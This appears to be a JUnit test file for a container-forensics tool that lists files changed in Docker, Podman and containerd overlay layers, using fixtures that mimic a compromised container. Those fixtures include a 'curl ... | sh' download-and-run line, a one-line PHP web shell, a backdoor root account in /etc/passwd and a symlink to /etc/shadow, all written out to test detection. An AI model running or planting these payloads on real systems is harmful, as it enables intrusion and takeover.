package dev.strata.ingest.overlay;

import static dev.strata.ingest.TestFiles.write;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.strata.ingest.CollectionReport;
import dev.strata.ingest.CollectorOptions;
import dev.strata.ingest.EvidencePreserver;
import dev.strata.ingest.FileCollector;
import dev.strata.ingest.ProgressListener;
import dev.strata.ingest.publish.InMemoryChunkPublisher;
import dev.strata.ingest.walk.EvidenceFile;
import dev.strata.schema.common.Framing;
import dev.strata.schema.raw.RawArtifactChunk;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Writable-layer listings over small Docker, Podman and containerd storage trees built here (layouts from Docker's
 * overlay2 driver, containers/storage and containerd's overlayfs snapshotter). Counts first, then fields.
 */
class OverlayUpperChangesTest {
  private static final ObjectMapper M = new ObjectMapper();
  private static final String CID = "c0ffee00".repeat(8);
  private static final String MOUNT = "ab".repeat(32);
  private static final String IMG_LAYER = "cd".repeat(32);
  private static final String INIT = MOUNT + "-init";

  @TempDir Path root;

  /** var/lib/docker with one container: rw layer MOUNT over MOUNT-init over IMG_LAYER. */
  private void dockerTree() throws IOException {
    String d = "var/lib/docker/";
    write(root, d + "image/overlay2/layerdb/mounts/" + CID + "/mount-id", MOUNT);
    write(root, d + "overlay2/" + MOUNT + "/lower", "l/AAAA:l/BBBB");
    Files.createDirectories(root.resolve(d + "overlay2/l"));
    Files.createSymbolicLink(root.resolve(d + "overlay2/l/AAAA"), Path.of("../" + INIT + "/diff"));
    Files.createSymbolicLink(root.resolve(d + "overlay2/l/BBBB"), Path.of("../" + IMG_LAYER + "/diff"));
    // lower layers
    write(root, d + "overlay2/" + IMG_LAYER + "/diff/etc/passwd", "root:x:0:0::/root:/bin/sh\n");
    write(root, d + "overlay2/" + IMG_LAYER + "/diff/var/log/auth.log", "old\n");
    write(root, d + "overlay2/" + IMG_LAYER + "/diff/opt/app/old.jar", "jar");
    write(root, d + "overlay2/" + INIT + "/diff/etc/hosts", "");
    // the container's changes
    String up = d + "overlay2/" + MOUNT + "/diff/";
    write(root, up + "etc/passwd", "root:x:0:0::/root:/bin/sh\nevil:x:0:0::/:/bin/sh\n");
    write(root, up + "tmp/x.sh", "curl http://203.0.113.9/x | sh\n");
    write(root, up + "var/log/.wh.auth.log", "");
    write(root, up + "opt/app/.wh..wh..opq", "");
    write(root, up + "opt/app/new.jar", "jar2");
    Files.createSymbolicLink(root.resolve(up + "tmp/escape"), Path.of("../../../../../../etc/shadow"));
    Files.createSymbolicLink(root.resolve(up + "tmp/dirlink"), Path.of("/etc"));
  }

  private List<JsonNode> list(OverlayUpperChanges.Upper u, OverlayUpperChanges s) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    long n = s.write(u, out);
    List<JsonNode> recs = new ArrayList<>();
    for (String l : out.toString(StandardCharsets.UTF_8).split("\n")) {
      if (!l.isBlank()) recs.add(M.readTree(l));
    }
    assertThat(recs).hasSize((int) n);
    return recs;
  }

  private static Map<String, JsonNode> byPath(List<JsonNode> recs) {
    Map<String, JsonNode> m = new LinkedHashMap<>();
    for (JsonNode r : recs) m.put(r.path("path").asText(), r);
    return m;
  }

  private OverlayUpperChanges scanner(List<String> warnings, long maxHash) throws IOException {
    return new OverlayUpperChanges(root.toRealPath(), maxHash, 1000, (p, m) -> warnings.add(p + ": " + m));
  }

  private List<EvidenceFile> markers(String... rels) throws IOException {
    List<EvidenceFile> out = new ArrayList<>();
    for (String r : rels) out.add(new EvidenceFile(root.toRealPath().resolve(r), r, 1, Instant.EPOCH));
    return out;
  }

  @Test
  void dockerContainerChanges() throws Exception {
    dockerTree();
    List<String> warnings = new ArrayList<>();
    OverlayUpperChanges s = scanner(warnings, 1024);
    List<OverlayUpperChanges.Upper> uppers =
        s.locate(markers("var/lib/docker/image/overlay2/layerdb/mounts/" + CID + "/mount-id"));
    assertThat(warnings).isEmpty();
    assertThat(uppers).hasSize(1);
    OverlayUpperChanges.Upper u = uppers.get(0);
    assertThat(u.containerId()).isEqualTo(CID);
    assertThat(u.upperRel()).isEqualTo("var/lib/docker/overlay2/" + MOUNT + "/diff");
    assertThat(u.lowerRels()).containsExactly("var/lib/docker/overlay2/" + INIT + "/diff",
        "var/lib/docker/overlay2/" + IMG_LAYER + "/diff");

    List<JsonNode> recs = list(u, s);
    // etc, etc/passwd, opt, opt/app, opt/app/new.jar, tmp, tmp/dirlink, tmp/escape, tmp/x.sh, var, var/log,
    // var/log/.wh.auth.log (the opaque marker is not a record of its own)
    assertThat(recs).hasSize(12);
    Map<String, JsonNode> m = byPath(recs);
    assertThat(m.get("/etc/passwd").path("kind").asText()).isEqualTo("changed");
    assertThat(m.get("/etc/passwd").path("type").asText()).isEqualTo("file");
    byte[] passwd = "root:x:0:0::/root:/bin/sh\nevil:x:0:0::/:/bin/sh\n".getBytes(StandardCharsets.UTF_8);
    assertThat(m.get("/etc/passwd").path("sha256").asText())
        .isEqualTo(HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(passwd)));
    assertThat(m.get("/etc/passwd").path("size").asLong()).isEqualTo(passwd.length);
    assertThat(m.get("/etc/passwd").path("evidence_path").asText())
        .isEqualTo("var/lib/docker/overlay2/" + MOUNT + "/diff/etc/passwd");
    assertThat(m.get("/etc/passwd").path("container_id").asText()).isEqualTo(CID);
    assertThat(m.get("/etc").path("kind").asText()).isEqualTo("changed");
    assertThat(m.get("/tmp").path("kind").asText()).isEqualTo("added");
    assertThat(m.get("/tmp/x.sh").path("kind").asText()).isEqualTo("added");
    assertThat(m.get("/tmp/x.sh").path("mode").asText()).matches("0[0-7]{3}");
    assertThat(m.get("/tmp/x.sh").path("mtime").asText()).endsWith("Z");
    // whiteout file: the lower auth.log is deleted
    assertThat(m.get("/var/log/auth.log").path("kind").asText()).isEqualTo("deleted");
    assertThat(m.get("/var/log/auth.log").path("type").asText()).isEqualTo("whiteout");
    // opaque dir: its lower contents are hidden, so what is in it is added
    assertThat(m.get("/opt/app").path("opaque").asBoolean()).isTrue();
    assertThat(m.get("/opt/app").path("kind").asText()).isEqualTo("changed");
    assertThat(m.get("/opt/app/new.jar").path("kind").asText()).isEqualTo("added");
    // symlinks are recorded, never followed (one climbs out of the root, one points at the host's /etc)
    assertThat(m.get("/tmp/escape").path("type").asText()).isEqualTo("symlink");
    assertThat(m.get("/tmp/escape").path("link_target").asText()).isEqualTo("../../../../../../etc/shadow");
    assertThat(m.get("/tmp/escape").has("sha256")).isFalse();
    assertThat(m.get("/tmp/dirlink").path("type").asText()).isEqualTo("symlink");
    assertThat(m.keySet()).noneMatch(p -> p.startsWith("/tmp/dirlink/"));
  }

  @Test
  void aDirectoryWhoseOnlyChangeIsBelowItSaysSoAndOneWithANewModeOrOwnerStatesTheLowerOnes() throws Exception {
    dockerTree();
    String d = "var/lib/docker/overlay2/";
    write(root, d + IMG_LAYER + "/diff/srv/www/index.html", "hi");
    write(root, d + MOUNT + "/diff/srv/www/shell.php", "<?php system($_GET['c']);");
    Files.setPosixFilePermissions(root.resolve(d + MOUNT + "/diff/srv"),
        java.nio.file.attribute.PosixFilePermissions.fromString("rwxrwxrwx"));
    Files.setPosixFilePermissions(root.resolve(d + IMG_LAYER + "/diff/srv"),
        java.nio.file.attribute.PosixFilePermissions.fromString("rwxr-xr-x"));
    Files.createDirectories(root.resolve(d + MOUNT + "/diff/etc/empty-new"));
    List<String> warnings = new ArrayList<>();
    OverlayUpperChanges s = scanner(warnings, 1024);
    OverlayUpperChanges.Upper u =
        s.locate(markers("var/lib/docker/image/overlay2/layerdb/mounts/" + CID + "/mount-id")).get(0);
    Map<String, JsonNode> m = byPath(list(u, s));
    // copied up for what changed below them: same mode and owner as below, entries below
    for (String dir : List.of("/etc", "/var", "/var/log", "/srv/www")) {
      assertThat(m.get(dir).path("children_only").asBoolean()).as(dir).isTrue();
    }
    // new directories, an opaque one, a chmod: changes of their own
    for (String dir : List.of("/tmp", "/opt/app", "/srv", "/etc/empty-new")) {
      assertThat(m.get(dir).has("children_only")).as(dir).isFalse();
    }
    assertThat(m.get("/srv").path("mode").asText()).isEqualTo("0777");
    assertThat(m.get("/srv").path("lower_mode").asText()).isEqualTo("0755");
    assertThat(m.get("/srv").has("lower_uid")).isTrue();
    assertThat(m.get("/etc").has("lower_mode")).isFalse();
    // without the lower layers, a directory with entries below reads as changed through them
    OverlayUpperChanges.Upper unknown = new OverlayUpperChanges.Upper(u.runtime(), u.containerId(), null, null,
        u.upperRel(), null);
    Map<String, JsonNode> n = byPath(list(unknown, s));
    assertThat(n.get("/tmp").path("children_only").asBoolean()).isTrue();
    assertThat(n.get("/etc/empty-new").has("children_only")).isFalse();
    assertThat(n.get("/opt/app").has("children_only")).isFalse();
  }

  @Test
  void whiteoutCharacterDevice() throws Exception {
    dockerTree();
    Path dev = root.resolve("var/lib/docker/overlay2/" + MOUNT + "/diff/etc/hosts");
    Process p = new ProcessBuilder("mknod", dev.toString(), "c", "0", "0").redirectErrorStream(true).start();
    org.junit.jupiter.api.Assumptions.assumeTrue(p.waitFor() == 0, "mknod needs CAP_MKNOD");
    List<String> warnings = new ArrayList<>();
    OverlayUpperChanges s = scanner(warnings, 1024);
    var u = s.locate(markers("var/lib/docker/image/overlay2/layerdb/mounts/" + CID + "/mount-id")).get(0);
    JsonNode r = byPath(list(u, s)).get("/etc/hosts");
    assertThat(r.path("kind").asText()).isEqualTo("deleted");
    assertThat(r.path("type").asText()).isEqualTo("whiteout");
    assertThat(r.path("rdev").asLong()).isZero();
  }

  @Test
  void hostileLayerIdsAndLinksAreRefused() throws Exception {
    dockerTree();
    // a mount-id that climbs out, a lower link that points outside the root, a layer dir that is a symlink
    String other = "1".repeat(64);
    write(root, "var/lib/docker/image/overlay2/layerdb/mounts/" + other + "/mount-id", "../../../../etc");
    Files.delete(root.resolve("var/lib/docker/overlay2/l/BBBB"));
    Files.createSymbolicLink(root.resolve("var/lib/docker/overlay2/l/BBBB"), Path.of("/etc"));
    String third = "2".repeat(64);
    String linkedLayer = "ef".repeat(32);
    write(root, "var/lib/docker/image/overlay2/layerdb/mounts/" + third + "/mount-id", linkedLayer);
    Files.createSymbolicLink(root.resolve("var/lib/docker/overlay2/" + linkedLayer), Path.of("/"));
    List<String> warnings = new ArrayList<>();
    OverlayUpperChanges s = scanner(warnings, 1024);
    var uppers = s.locate(markers(
        "var/lib/docker/image/overlay2/layerdb/mounts/" + CID + "/mount-id",
        "var/lib/docker/image/overlay2/layerdb/mounts/" + other + "/mount-id",
        "var/lib/docker/image/overlay2/layerdb/mounts/" + third + "/mount-id"));
    assertThat(uppers).hasSize(1);
    assertThat(uppers.get(0).lowerRels()).isNull(); // the bad link costs the lower layers, not the listing
    assertThat(warnings).hasSize(3);
    List<JsonNode> recs = list(uppers.get(0), s);
    assertThat(recs).hasSize(12);
    assertThat(recs).allMatch(r -> r.path("kind").asText().matches("added_or_changed|deleted"));
  }

  @Test
  void hugeFileIsListedNotHashed() throws Exception {
    dockerTree();
    Path big = root.resolve("var/lib/docker/overlay2/" + MOUNT + "/diff/big.bin");
    try (RandomAccessFile f = new RandomAccessFile(big.toFile(), "rw")) {
      f.setLength(3L << 30); // sparse: 3 GiB listed, nothing read
    }
    List<String> warnings = new ArrayList<>();
    OverlayUpperChanges s = scanner(warnings, 1 << 20);
    var u = s.locate(markers("var/lib/docker/image/overlay2/layerdb/mounts/" + CID + "/mount-id")).get(0);
    JsonNode r = byPath(list(u, s)).get("/big.bin");
    assertThat(r.path("size").asLong()).isEqualTo(3L << 30);
    assertThat(r.has("sha256")).isFalse();
    assertThat(r.path("sha256_skipped").asText()).startsWith("larger than");
  }

  @Test
  void podmanAndContainerdLayouts() throws Exception {
    String st = "home/alice/.local/share/containers/storage/";
    String layer = "9e".repeat(32);
    String base = "8d".repeat(32);
    write(root, st + "overlay-containers/containers.json",
        "[{\"id\":\"" + CID + "\",\"names\":[\"web\"],\"image\":\"i\",\"layer\":\"" + layer + "\",\"metadata\":\"{}\"},"
            + "{\"id\":\"bad\",\"layer\":\"../../x\"}]");
    write(root, st + "overlay/" + layer + "/lower", "l/QQ");
    Files.createDirectories(root.resolve(st + "overlay/l"));
    Files.createSymbolicLink(root.resolve(st + "overlay/l/QQ"), Path.of("../" + base + "/diff"));
    write(root, st + "overlay/" + base + "/diff/usr/bin/ls", "elf");
    write(root, st + "overlay/" + layer + "/diff/usr/bin/ls", "trojan");
    write(root, st + "overlay/" + layer + "/diff/root/.bash_history", "id\n");
    String snaps = "var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/";
    write(root, snaps + "metadata.db", "bolt");
    write(root, snaps + "snapshots/7/fs/etc/motd", "hi");
    Files.createDirectories(root.resolve(snaps + "snapshots/12/fs"));
    List<String> warnings = new ArrayList<>();
    OverlayUpperChanges s = scanner(warnings, 1024);
    var uppers = s.locate(markers(st + "overlay-containers/containers.json", snaps + "metadata.db"));
    assertThat(uppers).extracting(OverlayUpperChanges.Upper::runtime).containsExactly("podman", "containerd",
        "containerd");
    // the bad podman container, and the "metadata.db" that is no bbolt file (its snapshots listed by id only)
    assertThat(warnings).hasSize(2).anyMatch(w -> w.contains("metadata.db") && w.contains("without container ids"));
    Map<String, JsonNode> pm = byPath(list(uppers.get(0), s));
    assertThat(pm.get("/usr/bin/ls").path("kind").asText()).isEqualTo("changed");
    assertThat(pm.get("/root/.bash_history").path("kind").asText()).isEqualTo("added");
    assertThat(pm.get("/usr/bin/ls").path("layer").asText()).isEqualTo(layer);
    OverlayUpperChanges.Upper snap = uppers.get(1);
    assertThat(snap.snapshotId()).isEqualTo("7");
    Map<String, JsonNode> cm = byPath(list(snap, s));
    assertThat(cm.get("/etc/motd").path("kind").asText()).isEqualTo("added_or_changed");
    assertThat(cm.get("/etc/motd").path("snapshot_id").asText()).isEqualTo("7");
    assertThat(list(uppers.get(2), s)).isEmpty();
  }

  /**
   * containerd's snapshotter database names each snapshot (fixtures/containerd-snapshotter, written with bbolt as
   * containerd does): the container's active snapshot is its writable layer, with the container id and its parent
   * chain as lower layers (so changed and added are told apart); the pod sandbox's too; an unpack in progress is listed
   * by snapshot id only; image layers (committed) and views are not writable layers; a directory the database does
   * not name is listed by id, with a warning.
   */
  @Test
  void containerdSnapshotsAreNamedFromTheSnapshottersDatabase() throws Exception {
    String snaps = "var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/";
    Files.createDirectories(root.resolve(snaps));
    Files.copy(Path.of("src/test/resources/fixtures/containerd-snapshotter/metadata.db"), root.resolve(snaps + "metadata.db"));
    write(root, snaps + "snapshots/1/fs/usr/bin/ls", "elf");
    write(root, snaps + "snapshots/1/fs/etc/motd", "welcome");
    write(root, snaps + "snapshots/2/fs/app/app.jar", "jar");
    write(root, snaps + "snapshots/7/fs/etc/motd", "pwned");
    write(root, snaps + "snapshots/7/fs/tmp/.x", "elf");
    write(root, snaps + "snapshots/9/fs/pause.pid", "1");
    write(root, snaps + "snapshots/12/fs/usr/lib/libc.so", "so");
    write(root, snaps + "snapshots/13/fs/orphan", "?");
    write(root, snaps + "snapshots/14/fs/etc/hosts", "view");
    List<String> warnings = new ArrayList<>();
    OverlayUpperChanges s = scanner(warnings, 1024);
    var uppers = s.locate(markers(snaps + "metadata.db"));
    assertThat(uppers).extracting(u -> u.snapshotId() + " " + u.containerId())
        .containsExactly("7 " + CID, "9 " + "5a".repeat(32), "12 null", "13 null");
    assertThat(warnings).singleElement().asString().contains("snapshot 13 is not in the snapshotter's metadata.db");
    assertThat(uppers.get(0).lowerRels()).containsExactly(snaps + "snapshots/2/fs", snaps + "snapshots/1/fs");
    Map<String, JsonNode> cm = byPath(list(uppers.get(0), s));
    assertThat(cm).hasSize(4); // /etc, /etc/motd, /tmp, /tmp/.x
    assertThat(cm.get("/etc/motd").path("kind").asText()).isEqualTo("changed");
    assertThat(cm.get("/tmp/.x").path("kind").asText()).isEqualTo("added");
    assertThat(cm.get("/tmp/.x").path("container_id").asText()).isEqualTo(CID);
    assertThat(cm.get("/tmp/.x").path("snapshot_id").asText()).isEqualTo("7");
    assertThat(uppers.get(2).lowerRels()).isEmpty();
    assertThat(uppers.get(3).lowerRels()).isNull();
  }

  /**
   * The other snapshot key forms real hosts have (fixtures/containerd-snapshotter/metadata-forms.db, README there):
   * Docker Engine with the containerd image store (namespace moby: the writable layer under the container id on its
   * committed {@code <id>-init}, and an init layer still being prepared, {@code <id>-init-key}), a {@code ctr run}
   * container named by its user (namespace default), a k3s / rke2 node's CRI container under k3s's containerd root;
   * an unpack in progress and BuildKit's snapshot are nobody's.
   */
  @Test
  void dockerCtrAndK3sSnapshotKeysNameTheirContainers() throws Exception {
    String c1 = "d0c4e500".repeat(8);
    String c2 = "d0c4e501".repeat(8);
    String c3 = "c3".repeat(32);
    for (String snaps : List.of("var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/",
        "var/lib/rancher/k3s/agent/containerd/io.containerd.snapshotter.v1.overlayfs/")) {
      Path r = Files.createTempDirectory(root, "forms");
      Files.createDirectories(r.resolve(snaps));
      Files.copy(Path.of("src/test/resources/fixtures/containerd-snapshotter/metadata-forms.db"),
          r.resolve(snaps + "metadata.db"));
      for (int id : new int[] {3, 4, 5, 6, 7, 8, 9, 10, 11}) write(r, snaps + "snapshots/" + id + "/fs/f" + id, "x");
      List<String> warnings = new ArrayList<>();
      Path real = r.toRealPath();
      OverlayUpperChanges s = new OverlayUpperChanges(real, 1024, 1000, (p, m) -> warnings.add(p + ": " + m));
      var uppers = s.locate(List.of(new EvidenceFile(real.resolve(snaps + "metadata.db"), snaps + "metadata.db", 1,
          Instant.EPOCH)));
      assertThat(uppers).as(snaps).extracting(u -> u.snapshotId() + " " + u.runtime() + " " + u.containerId())
          .containsExactly("5 docker " + c1, "6 docker " + c2, "8 containerd redis1", "9 containerd null",
              "10 containerd null", "11 containerd " + c3);
      assertThat(uppers.get(0).lowerRels()).as("on its init layer, on the image")
          .containsExactly(snaps + "snapshots/4/fs", snaps + "snapshots/3/fs");
      assertThat(warnings).isEmpty();
    }
  }

  /** A database whose snapshots bucket spans leaf pages under a branch page: every snapshot is found. */
  @Test
  void aLargeSnapshotterDatabaseIsReadAcrossItsPages() throws Exception {
    var m = BoltFile.containerdSnapshots(
        Files.readAllBytes(Path.of("src/test/resources/fixtures/containerd-snapshotter/metadata-many.db")));
    assertThat(m).hasSize(61);
    for (int i = 100; i < 160; i++) {
      BoltFile.Snapshot snap = m.get(Integer.toString(i));
      assertThat(snap.name()).isEqualTo(String.format("%064x", i));
      assertThat(snap.kind()).isEqualTo(BoltFile.Snapshot.ACTIVE);
      assertThat(snap.parent()).isEqualTo("k8s.io/1/sha256:" + "a1".repeat(32));
    }
    // hostile bytes: a truncated or altered file is an error, never a hang or an out-of-bounds read
    byte[] db = Files.readAllBytes(Path.of("src/test/resources/fixtures/containerd-snapshotter/metadata.db"));
    org.assertj.core.api.Assertions.assertThatThrownBy(() -> BoltFile.containerdSnapshots(java.util.Arrays.copyOf(db, 9000)))
        .isInstanceOf(IOException.class);
    java.util.Random rnd = new java.util.Random(5);
    for (int i = 0; i < 200; i++) {
      byte[] bad = db.clone();
      for (int k = 0; k < 8; k++) bad[8192 + rnd.nextInt(db.length - 8192)] = (byte) rnd.nextInt(256);
      try {
        BoltFile.containerdSnapshots(bad);
      } catch (IOException expected) {
        // malformed: fine
      }
    }
  }

  @Test
  void collectorPublishesOneListingPerContainerAndStillWalksNormally() throws Exception {
    dockerTree();
    write(root, "var/lib/docker/containers/" + CID + "/" + CID + "-json.log",
        "{\"log\":\"hi\\n\",\"stream\":\"stdout\",\"time\":\"2024-05-01T12:00:00Z\"}\n");
    InMemoryChunkPublisher out = new InMemoryChunkPublisher();
    CollectionReport report = FileCollector.collect(root, CollectorOptions.builder().runId("r").build(), out,
        EvidencePreserver.NONE, ProgressListener.NONE);
    List<RawArtifactChunk> listing = out.chunks().stream()
        .filter(c -> c.getSourceType().equals(OverlayUpperChanges.SOURCE_TYPE)).toList();
    assertThat(listing).hasSize(1);
    RawArtifactChunk c = listing.get(0);
    assertThat(c.getOrigin()).isEqualTo("var/lib/docker/overlay2/" + MOUNT + "/diff/");
    assertThat(c.getFraming()).isEqualTo(Framing.LINES);
    byte[] payload = new byte[c.getPayload().remaining()];
    c.getPayload().duplicate().get(payload);
    assertThat(new String(payload, StandardCharsets.UTF_8).split("\n")).hasSize(12);
    assertThat(c.getArtifactSha256())
        .isEqualTo(HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(payload)));
    assertThat(out.chunks()).anyMatch(x -> x.getSourceType().equals("docker_json_log"));
    assertThat(report.artifacts()).anyMatch(a -> a.sourceType().equals(OverlayUpperChanges.SOURCE_TYPE));
    // the same evidence gives the same listing bytes (same artifact id)
    InMemoryChunkPublisher again = new InMemoryChunkPublisher();
    FileCollector.collect(root, CollectorOptions.builder().runId("r2").build(), again, EvidencePreserver.NONE,
        ProgressListener.NONE);
    assertThat(again.chunks().stream().filter(x -> x.getSourceType().equals(OverlayUpperChanges.SOURCE_TYPE))
        .map(RawArtifactChunk::getArtifactSha256)).containsExactly(c.getArtifactSha256());
  }
}
